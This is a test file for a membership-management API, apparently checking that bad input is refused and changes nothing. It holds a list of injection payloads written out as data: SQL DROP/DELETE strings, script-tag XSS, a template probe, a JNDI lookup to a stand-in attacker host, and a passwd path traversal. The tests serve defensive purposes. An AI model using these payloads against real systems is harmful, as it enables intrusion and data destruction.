import { beforeAll, describe, expect, it } from "vitest";
import { call, eventCount, newMember, newTenant, type Tenant } from "./harness";

/** Strings that try to escape into SQL, markup, templates, paths or the log. */
const INJECTIONS = [
  "'; DROP TABLE members; --",
  '" OR 1=1 --',
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "{{7*7}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is the literal text
  "${jndi:ldap://evil.example/a}",
  "../../etc/passwd",
  "Robert'); DELETE FROM events; --",
  "name\u0000null",
];

function problem(
  r: { status: number; headers: Headers; body: { status: number; code: string } },
  status: number,
) {
  expect(r.status).toBe(status);
  expect(r.headers.get("content-type")).toContain("application/problem+json");
  expect(r.body.status).toBe(status);
  expect(r.body.code).toEqual(expect.any(String));
  expect(JSON.stringify(r.body)).not.toMatch(/SQLITE|D1_ERROR|at .*\.ts:\d+/);
}

describe("bad input changes nothing", () => {
  let t: Tenant;
  let memberId: string;
  let before: string;

  const state = async () =>
    JSON.stringify([
      await eventCount(t.branch.id, t.branchKey),
      (await call(`/v1/districts/${t.district.id}/branches`, { key: t.districtKey })).body,
      (await call(`/v1/branches/${t.branch.id}/members?includeLeft=true`, { key: t.branchKey })).body,
      (await call(`/v1/branches/${t.branch.id}/keys`, { key: t.branchKey })).body,
    ]);

  beforeAll(async () => {
    t = await newTenant();
    memberId = (await newMember(t.branch.id, t.branchKey)).id;
    before = await state();
  });

  it("refuses malformed JSON with 400 malformed_json", async () => {
    for (const raw of ["{", '{"name": }', "[1,2", "null", '"just a string"']) {
      const r = await call(`/v1/branches/${t.branch.id}/members`, {
        key: t.branchKey,
        raw,
        headers: { "content-type": "application/json" },
      });
      expect([400]).toContain(r.status);
      problem(r, 400);
    }
    expect(await state()).toBe(before);
  });

  it("refuses wrong types and missing fields, naming each field", async () => {
    const r = await call(`/v1/branches/${t.branch.id}/members`, {
      key: t.branchKey,
      body: { name: 42, gender: "male", birthDate: "1990-02-30", status: ["full"] },
    });
    problem(r, 400);
    expect(r.body.errors.map((e: { path: string }) => e.path).sort()).toEqual([
      "birthDate",
      "name",
      "status",
    ]);
    const missing = await call(`/v1/branches/${t.branch.id}/members`, { key: t.branchKey, body: {} });
    problem(missing, 400);
    expect(missing.body.errors.map((e: { path: string }) => e.path).sort()).toEqual([
      "birthDate",
      "gender",
      "name",
      "status",
    ]);
    const extra = await call(`/v1/branches/${t.branch.id}/members`, {
      key: t.branchKey,
      body: { name: "甲", gender: "male", birthDate: "1990-01-01", status: "applicant", isAdmin: true },
    });
    problem(extra, 400);
    expect(await state()).toBe(before);
  });

  it("refuses a body over 1 MiB with 413", async () => {
    const r = await call(`/v1/branches/${t.branch.id}/members`, {
      key: t.branchKey,
      raw: JSON.stringify({ name: "甲", education: "x".repeat(1024 * 1024) }),
      headers: { "content-type": "application/json" },
    });
    problem(r, 413);
    expect(await state()).toBe(before);
  });

  it("refuses the wrong content type with 415", async () => {
    for (const type of ["text/plain", "application/x-www-form-urlencoded", "application/xml"]) {
      const r = await call(`/v1/branches/${t.branch.id}/members`, {
        key: t.branchKey,
        raw: '{"name":"甲","gender":"male","birthDate":"1990-01-01","status":"applicant"}',
        headers: { "content-type": type },
      });
      problem(r, 415);
    }
    expect(await state()).toBe(before);
  });

  const textFields: [
    string,
    (v: string) => { method: string; path: () => string; body: unknown; key: () => string },
  ][] = [
    [
      "member name",
      (v) => ({
        method: "POST",
        path: () => `/v1/branches/${t.branch.id}/members`,
        key: () => t.branchKey,
        body: { name: v, gender: "male", birthDate: "1990-01-01", status: "applicant" },
      }),
    ],
    [
      "member education",
      (v) => ({
        method: "PATCH",
        path: () => `/v1/branches/${t.branch.id}/members/${memberId}`,
        key: () => t.branchKey,
        body: { version: 1, education: v },
      }),
    ],
    [
      "branch name",
      (v) => ({
        method: "PATCH",
        path: () => `/v1/branches/${t.branch.id}`,
        key: () => t.branchKey,
        body: { version: 1, name: v },
      }),
    ],
    [
      "new branch name",
      (v) => ({
        method: "POST",
        path: () => `/v1/districts/${t.district.id}/branches`,
        key: () => t.districtKey,
        body: { name: v, kind: "branch", foundedOn: "2020-01-01" },
      }),
    ],
    [
      "key label",
      (v) => ({
        method: "POST",
        path: () => `/v1/branches/${t.branch.id}/keys`,
        key: () => t.branchKey,
        body: { role: "branch_admin", label: v },
      }),
    ],
    [
      "district name",
      (v) => ({
        method: "POST",
        path: () => "/v1/districts",
        key: () => "vgk_test_platform_admin",
        body: { code: "inj", name: v },
      }),
    ],
    [
      "district code",
      (v) => ({
        method: "POST",
        path: () => "/v1/districts",
        key: () => "vgk_test_platform_admin",
        body: { code: v, name: "注入" },
      }),
    ],
    [
      "member id in a path",
      (v) => ({
        method: "GET",
        path: () => `/v1/branches/${t.branch.id}/members/${encodeURIComponent(v)}`,
        key: () => t.branchKey,
        body: undefined,
      }),
    ],
    [
      "search text",
      (v) => ({
        method: "GET",
        path: () => `/v1/branches/${t.branch.id}/members?status=${encodeURIComponent(v)}`,
        key: () => t.branchKey,
        body: undefined,
      }),
    ],
  ];

  for (const [field, build] of textFields) {
    it(`refuses injection strings in the ${field}`, async () => {
      for (const payload of INJECTIONS) {
        const req = build(payload);
        const r = await call(req.path(), { method: req.method, key: req.key(), body: req.body });
        expect(r.status, `${field} ← ${payload}`).toBeGreaterThanOrEqual(400);
        expect(r.status).toBeLessThan(500);
        problem(r, r.status);
      }
      expect(await state()).toBe(before);
    });
  }

  it("keeps prose verbatim: quotes and semicolons in a note are data, markup is refused", async () => {
    const receiver = await newTenant();
    const m = await newMember(t.branch.id, t.branchKey, { name: "调动", idNumber: null });
    const markup = await call(`/v1/branches/${t.branch.id}/members/${m.id}/transfers`, {
      key: t.branchKey,
      body: { toBranchId: receiver.branch.id, note: "<script>alert(1)</script>" },
    });
    problem(markup, 400);
    const sql = "工作调动'; DROP TABLE members; --";
    const letter = await call(`/v1/branches/${t.branch.id}/members/${m.id}/transfers`, {
      key: t.branchKey,
      body: { toBranchId: receiver.branch.id, note: sql },
    });
    expect(letter.status).toBe(201);
    expect(letter.body.note).toBe(sql);
    expect((await call(`/v1/branches/${t.branch.id}/members`, { key: t.branchKey })).status).toBe(200);
    before = await state();
  });
});
